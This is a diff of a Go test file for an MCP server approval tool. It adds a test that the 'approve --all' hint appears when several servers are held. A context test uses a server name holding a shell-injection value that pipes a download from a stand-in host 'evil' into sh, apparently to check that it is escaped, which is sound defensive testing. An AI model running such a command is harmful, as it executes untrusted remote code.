@@ -150,6 +150,27 @@ func TestApproveElsewhere(t *testing.T) {
 	}
 }
 
+// TestApproveAllIsNamed: where several servers are held, the one command for all of them is named.
+func TestApproveAllIsNamed(t *testing.T) {
+	home := t.TempDir()
+	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir(), "XDG_RUNTIME_DIR="+t.TempDir())
+	now := map[string]entry{"first": {Command: "one"}}
+	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), now, vars...)
+	for _, held := range []string{"second", "third"} {
+		now[held] = entry{Command: held}
+		f.write(t, now)
+		f.says(t, held+"]")
+		cmd := command(t, nil, "servers")
+		cmd.Dir, cmd.Env = home, append(cmd.Env, vars...)
+		out, err := cmd.CombinedOutput()
+		shown := strings.Join(strings.Fields(string(out)), " ")
+		if err != nil || !strings.Contains(shown, "run: mcp-bridge servers approve "+held) ||
+			strings.Contains(shown, "for all that are held: mcp-bridge servers approve --all") != (held == "third") {
+			t.Errorf("%s is held: %v\n%s", held, err, out)
+		}
+	}
+}
+
 func TestHowToApprove(t *testing.T) {
 	s := discovery.Server{Name: "x; curl evil|sh #"}
 	if got, want := elicit.HowToApprove(s, "this directory"),
